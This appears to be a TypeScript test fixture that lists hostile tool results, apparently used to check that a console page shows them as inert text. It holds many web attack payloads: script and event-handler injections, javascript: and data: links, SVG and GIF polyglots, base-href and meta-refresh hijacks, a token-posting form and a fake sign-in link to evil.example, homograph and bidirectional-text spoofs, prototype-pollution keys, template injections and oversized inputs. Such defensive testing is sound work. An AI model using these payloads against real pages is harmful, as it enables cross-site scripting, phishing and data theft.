// What a hostile tool may return. Each tries to run, to load, to be followed, to mislead, or to hang the page.

export interface HostileResult {
  readonly name: string
  readonly result: { readonly content: readonly unknown[]; readonly [key: string]: unknown }
  /** What the page shows of it, as text. */
  readonly shows: readonly string[]
}

/** Whether all pictures have come, or failed: their handlers, if any, have run. */
export const ARE_PICTURES_LOADED = '[...document.images].every(each => each.complete)'

const EVIL = 'http://evil.example'
const RUN = 'window.ran=1'
const base64 = (text: string) => Buffer.from(text, 'latin1').toString('base64')
const text = (...texts: string[]) => ({ content: texts.map(text => ({ type: 'text', text })) })
const resource = (mimeType: string, text: string) => ({
  content: [{ type: 'resource', resource: { uri: 'file:///page', mimeType, text } }],
})
const link = (...uris: string[]) => ({ content: uris.map(uri => ({ type: 'resource_link', name: 'click me', uri })) })

const SCRIPT = `<script>${RUN}</script>`
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="${RUN}"><script>${RUN}</script>
<image href="${EVIL}/svg.png"/><foreignObject width="40" height="40"><img xmlns="http://www.w3.org/1999/xhtml"
src="x" onerror="${RUN}"/></foreignObject><a href="javascript:${RUN}"><rect width="40" height="40"/></a></svg>`
const HTML = `<!doctype html><title>owned</title><base href="${EVIL}/"><meta http-equiv="refresh" content="0;${EVIL}">
<link rel="stylesheet" href="${EVIL}/a.css">${SCRIPT}<iframe src="${EVIL}"></iframe>`

function nest(levels: number): unknown {
  let value: unknown = 'the bottom'
  for (let level = 0; level < levels; level++) value = level % 2 ? [value] : { deeper: value }
  return value
}

export const HOSTILE_RESULTS: readonly HostileResult[] = [
  { name: 'script tags', result: text(SCRIPT, `</pre></script>${SCRIPT}`), shows: [SCRIPT] },
  {
    name: 'handlers of elements',
    result: text(`<img src=x onerror="${RUN}">`, `<body onload=${RUN}>`, `<details open ontoggle=${RUN}>`),
    shows: ['<img src=x', '<body onload', '<details open'],
  },
  { name: 'SVG as text', result: text(SVG), shows: ['<foreignObject'] },
  {
    name: 'SVG as a picture',
    result: { content: [{ type: 'image', mimeType: 'image/svg+xml', data: base64(SVG) }] },
    shows: ['image/svg+xml'],
  },
  {
    name: 'SVG that says it is PNG, and HTML that says it is a picture',
    result: {
      content: [
        { type: 'image', mimeType: 'image/png', data: base64(SVG) },
        { type: 'image', mimeType: 'image/gif', data: base64(HTML) },
      ],
    },
    shows: ['The browser cannot show this as image/png', 'The browser cannot show this as image/gif'],
  },
  {
    name: 'HTML that says it is sound, and pictures and sound of types that are none',
    result: {
      content: [
        { type: 'audio', mimeType: 'audio/mpeg', data: base64(HTML) },
        { type: 'audio', mimeType: 'text/html', data: base64(HTML) },
        { type: 'image', mimeType: 'text/html;image/png', data: base64(HTML) },
        { type: 'image', mimeType: 'image/png', data: `"><script>${RUN}</script>` },
      ],
    },
    shows: ['audio/mpeg', 'text/html', 'These data are not base64'],
  },
  {
    name: 'links that run',
    result: link(
      `javascript:${RUN}`,
      `JaVaScRiPt:${RUN}`,
      ` java\nscript:${RUN}`,
      `vbscript:${RUN}`,
      `data:text/html,${SCRIPT}`,
      `blob:${EVIL}/1`,
      'file:///etc/passwd',
      'view-source:http://evil.example',
    ),
    shows: [`javascript:${RUN}`, 'vbscript:', 'data:text/html', 'file:///etc/passwd'],
  },
  {
    name: 'links that look like others',
    result: link('https://your-bank.example@evil.example/', 'https://аррӏе.example/', '//evil.example', 'https://'),
    shows: ['https://your-bank.example@evil.example/', 'https://xn--'],
  },
  {
    name: 'an HTML resource',
    result: resource('text/html', HTML),
    shows: ['<base href', '<meta http-equiv="refresh"'],
  },
  {
    name: 'a resource as base64 HTML, with a path for a name',
    result: {
      content: [
        {
          type: 'resource',
          resource: { uri: 'file:///../../etc/\u202efdp.exe', mimeType: 'text/html', blob: base64(HTML) },
        },
      ],
    },
    shows: ['[U+202E]', '_fdp.exe'],
  },
  {
    name: 'an application of MCP Apps',
    result: { ...resource('text/html;profile=mcp-app', HTML), _meta: { ui: { resourceUri: 'ui://evil' } } },
    shows: ['<!doctype html>', '_meta'],
  },
  {
    name: 'Markdown with pictures and links',
    result: text(`![x](${EVIL}/pixel.png) [click](javascript:${RUN}) <${EVIL}> [](${EVIL}/?secret)`),
    shows: ['(evil.example)', '(javascript:window.ran=1)'],
  },
  {
    name: 'ANSI, and links of a terminal',
    result: text(`\x1b[31mred\x1b[0m \x1b]8;;${EVIL}\x07click\x1b]8;;\x07 \x9b2J \x07 \x1b]52;c;aGk=\x07`),
    shows: ['[ESC][31mred', `[ESC]]8;;${EVIL}[BEL]click`, '[U+009B]2J'],
  },
  {
    name: 'text that is reordered or hidden',
    result: text(
      'access \u202etxt.exe\u202c \u2066x\u2069 pay\u200bpal \ufeff zero\u2060width \u{e0041}\u{e0042} a\u00adb',
    ),
    shows: ['[U+202E]txt.exe[U+202C]', 'pay[U+200B]pal', '[U+E0041][U+E0042]'],
  },
  {
    name: 'NUL, lone halves and other controls',
    result: text('a\0b', 'half \ud800 of a pair', 'over\rwritten', 'bell\b\b\b'),
    shows: ['a[NUL]b', '[U+D800]', 'over[CR]written'],
  },
  {
    name: 'keys of prototypes',
    result: {
      content: [],
      structuredContent: JSON.parse(
        '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},"toString":"x","hasOwnProperty":1}',
      ),
    },
    shows: ['__proto__', 'constructor', 'polluted'],
  },
  {
    name: 'values that look like parts of a page',
    result: {
      content: [],
      structuredContent: {
        rows: [
          { type: 'script', props: null, key: '__proto__', ref: null, dangerouslySetInnerHTML: HTML },
          { type: 'img', __html: `<img src=x onerror=${RUN}>`, props: 1, key: 2, ref: 3 },
        ],
      },
    },
    shows: ['dangerouslySetInnerHTML', '<img src=x onerror'],
  },
  {
    name: 'nesting of 3,000 levels',
    result: { content: [{ type: 'text', text: JSON.stringify(nest(3_000)) }], structuredContent: nest(3_000) },
    shows: ['deeper'],
  },
  {
    name: 'a string of a megabyte, and one of marks only',
    result: text(`start ${'x'.repeat(1_000_000)}`, '\u200b'.repeat(200_000)),
    shows: ['start xxx', '995,006 more characters'],
  },
  {
    name: '10,000 rows',
    result: {
      content: [],
      structuredContent: { rows: Array.from({ length: 10_000 }, (_, id) => ({ id, name: `row ${id}` })) },
    },
    shows: ['row 49', '1–50 of 10,000'],
  },
  {
    name: 'styles',
    result: text(
      `<style>@import url(${EVIL}/a.css);*{display:none}</style>`,
      `<div style="position:fixed;inset:0;background:url(${EVIL}/b.png)">over all</div>`,
    ),
    shows: ['@import url', 'position:fixed'],
  },
  {
    name: 'templates',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the attack
    result: text('${window.ran=1} {{constructor.constructor("window.ran=1")()}} <%= 7*7 %> #{7*7} {7*7}'),
    // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the attack
    shows: ['${window.ran=1}', '{{constructor', '<%= 7*7 %>'],
  },
  {
    name: 'a file that is a picture and a script',
    result: {
      content: [
        { type: 'image', mimeType: 'image/gif', data: base64(`GIF89a/*${'\0'.repeat(20)}*/=1;${RUN}//${SCRIPT}`) },
        { type: 'resource', resource: { uri: `javascript:${RUN}//.gif`, mimeType: 'image/gif', text: SCRIPT } },
      ],
    },
    shows: ['image/gif', SCRIPT],
  },
  {
    name: 'blocks that are none',
    result: {
      content: [
        null,
        7,
        [],
        { type: 'video', src: EVIL, onload: RUN },
        { type: 'text', text: { toString: 'x' } },
        { type: 'image' },
        { type: 'resource', resource: null },
        { type: 'resource_link', uri: 7, name: [] },
      ],
    },
    shows: ['video', 'null'],
  },
  ...markdown('an image from outside', `# T\n\n![logo](${EVIL}/logo.png "title") ![](${EVIL}/x.svg)`, [
    'logo',
    'evil.example',
  ]),
  ...markdown(
    'links that run',
    `- [a](javascript:${RUN})\n- [b](JAVASCRIPT:${RUN})\n- [c](data:text/html,x)\n- [d](vbscript:x)`,
    ['(javascript:window.ran=1)', '(data:text/html,x)'],
  ),
  ...markdown('a link with encoded letters', `- [a](&#106;avascript:${RUN})\n- [b](java&Tab;script:${RUN})`, ['a']),
  ...markdown('a link to another host than it says', `**x** [https://your-bank.example](${EVIL}/login)`, [
    '(evil.example)',
  ]),
  ...markdown('a link to a page of the console', '- [go](#/tools/x)\n- [up](../)\n- [host](//evil.example)', [
    '(#/tools/x)',
    '(//evil.example)',
  ]),
  ...markdown('a link with a name before the host', '- [x](https://your-bank.example@evil.example/)', [
    'your-bank.example@',
  ]),
  ...markdown('a homograph', '- [x](https://аррӏе.example/)', ['(xn--']),
  ...markdown('links by reference', `**x** [a][1]\n\n[1]: javascript:${RUN} "t"`, ['(javascript:']),
  ...markdown(
    'automatic links',
    `- <${EVIL}/?q=1>\n- <javascript:${RUN}>\n- ${EVIL}/auto\n- www.evil.example\n- a@evil.example`,
    [`${EVIL}/?q=1`],
  ),
  ...markdown('mail with a body', '- [m](mailto:a@b.example?body=secret&bcc=c@d.example)', ['mailto:a@b.example?body']),
  ...markdown('HTML blocks', `# T\n\n${HTML}\n\n<div onclick="${RUN}">x</div>`, ['<iframe', 'onclick']),
  ...markdown('HTML in a line', `**x** <img src=x onerror=${RUN}> <a href="javascript:${RUN}">y</a>`, [
    '<img src=x',
    '<a href=',
  ]),
  ...markdown('comments and CDATA', '# T\n\n<!-- hidden\nnote -->\n\n<![CDATA[<script>]]>\n\n<?php x ?>', [
    'hidden',
    'CDATA',
  ]),
  ...markdown(
    'a button and a form',
    '# T\n\n<button>Sign in</button>\n\n<form action="http://evil.example"><input name=token></form>',
    ['<button>Sign in</button>', '<form action'],
  ),
  ...markdown('a picture that is a link', `- [![x](${EVIL}/a.png)](${EVIL}/b)`, ['evil.example']),
  ...markdown('code with HTML', `\`\`\`html" onload="${RUN}\n${SCRIPT}\n\`\`\`\n\n\`${SCRIPT}\``, [SCRIPT]),
  ...markdown('a table with HTML', `| a | b |\n|---|---|\n| ${SCRIPT} | <b>x</b> |`, [SCRIPT]),
  ...markdown('a list of tasks', '- [x] <input type=checkbox onclick=1>\n- [ ] b', ['<input type=checkbox']),
  ...markdown('footnotes and ids', '# <a id=app>x</a>\n\nText[^1] **x**\n\n[^1]: note', ['<a id=app>']),
  ...markdown('directions and zero width', '**pay\u200bpal** `\u202etxt.exe` [a\u2066b](https://example.org)', [
    '[U+200B]',
    '[U+202E]',
  ]),
  ...markdown('references of characters', '**x** &lt;script&gt; &#0; &#x202e; &#1114112; &notin;', [
    '<script>',
    '[U+202E]',
  ]),
  ...markdown('quotes 5,000 deep', `${'> '.repeat(5_000)}x`, ['> >']),
  ...markdown('lists 400 deep', Array.from({ length: 400 }, (_, n) => `${' '.repeat(2 * n)}- a`).join('\n'), ['- a']),
  ...markdown('emphasis without an end', `# T\n\n${'*a _'.repeat(20_000)}`, ['*a _*a _']),
  ...markdown('brackets without an end', `# T\n\n${'[a]('.repeat(20_000)}`, ['[a]([a](']),
  ...markdown('a megabyte', `# T\n\n${'**x** '.repeat(170_000)}`, ['# T']),
  {
    name: 'numbers that JavaScript cannot hold, and words that are none',
    result: {
      content: [
        { type: 'text', text: '{"big":12345678901234567890,"far":1e400,"small":-1e-400,"list":[1]}' },
        { type: 'text', text: '[NaN]' },
      ],
    },
    shows: ['12345678901234567890', '1e400', '[NaN]'],
  },
  {
    name: '1e308 and the like',
    result: { content: [], structuredContent: { a: 1e308, b: -0, c: 5e-324, d: [] } },
    shows: ['1e+308', '5e-324'],
  },
  {
    name: 'keys of prototypes as columns',
    result: {
      content: [],
      structuredContent: { rows: JSON.parse('[{"__proto__":"p","constructor":"c","toString":"t"},{"__proto__":"q"}]') },
    },
    shows: ['__proto__', 'constructor'],
  },
  {
    name: 'columns that are none',
    result: {
      content: [],
      structuredContent: { columns: [{ name: '<b>x</b>' }, { name: '\u202ey' }], rows: [['=1+1', SCRIPT], []] },
    },
    shows: ['<b>x</b>', '[U+202E]y', SCRIPT],
  },
  {
    name: 'a cell of a megabyte',
    result: { content: [], structuredContent: { rows: [{ a: `start ${'x'.repeat(1_000_000)}`, b: 1 }] } },
    shows: ['start xxx'],
  },
  {
    name: 'a line of ten megabytes',
    result: text(`start ${'y'.repeat(10_000_000)}`),
    shows: ['start yyy', 'more characters'],
  },
  {
    name: 'nesting of 5,000 levels as text',
    result: text(`${'['.repeat(5_000)}${']'.repeat(5_000)}`),
    shows: ['1 item'],
  },
  { name: 'marks above marks', result: text(`Z${'\u0300\u0489\u0363'.repeat(300)}algo`), shows: ['algo'] },
  { name: 'NUL within JSON', result: text('{"a\\u0000b":"c\\u0000d","x":[]}'), shows: ['a[NUL]b', 'c\\u0000d'] },
  {
    name: 'links with the names of others',
    result: {
      content: [
        {
          type: 'resource_link',
          uri: 'javascript:1',
          name: 'OK',
          title: '<a href=x>Open</a>',
          mimeType: SCRIPT,
          description: `[x](javascript:${RUN})`,
        },
      ],
    },
    shows: ['<a href=x>Open</a>', '(javascript:window.ran=1)'],
  },
  {
    name: 'a link with half of a pair',
    result: link('report://\ud800', 'report://../../x?y#z'),
    shows: ['[U+D800]', 'report://../../x?y#z'],
  },
  {
    name: 'an error that looks like the page',
    result: { ...text(`Session expired. <a href="${EVIL}">Sign in</a> \`${SCRIPT}\``), isError: true },
    shows: ['<a href="http://evil.example">Sign in</a>', SCRIPT],
  },
  {
    name: 'annotations and _meta that run',
    result: {
      content: [{ type: 'text', text: 'x', annotations: { audience: [SCRIPT] }, _meta: { '<b>': HTML } }],
      _meta: { ui: SCRIPT },
    },
    shows: ['annotations and _meta'],
  },
  {
    name: 'a picture of no bytes, and one of a million',
    result: {
      content: [
        { type: 'image', mimeType: 'image/png', data: '' },
        { type: 'image', mimeType: 'image/png', data: base64('x'.repeat(1_000_000)) },
      ],
    },
    shows: ['The browser cannot show this as image/png'],
  },
  {
    name: 'a structured text that is Markdown',
    result: { content: [], structuredContent: { result: `# T\n\n![x](${EVIL}/p.png)\n\n${SCRIPT}` } },
    shows: ['evil.example', SCRIPT],
  },
]

/** Markdown opens formatted. It starts with what makes a text Markdown, or has it in it. */
function markdown(name: string, value: string, shows: readonly string[]): readonly HostileResult[] {
  return [{ name: `Markdown: ${name}`, result: text(value), shows }]
}
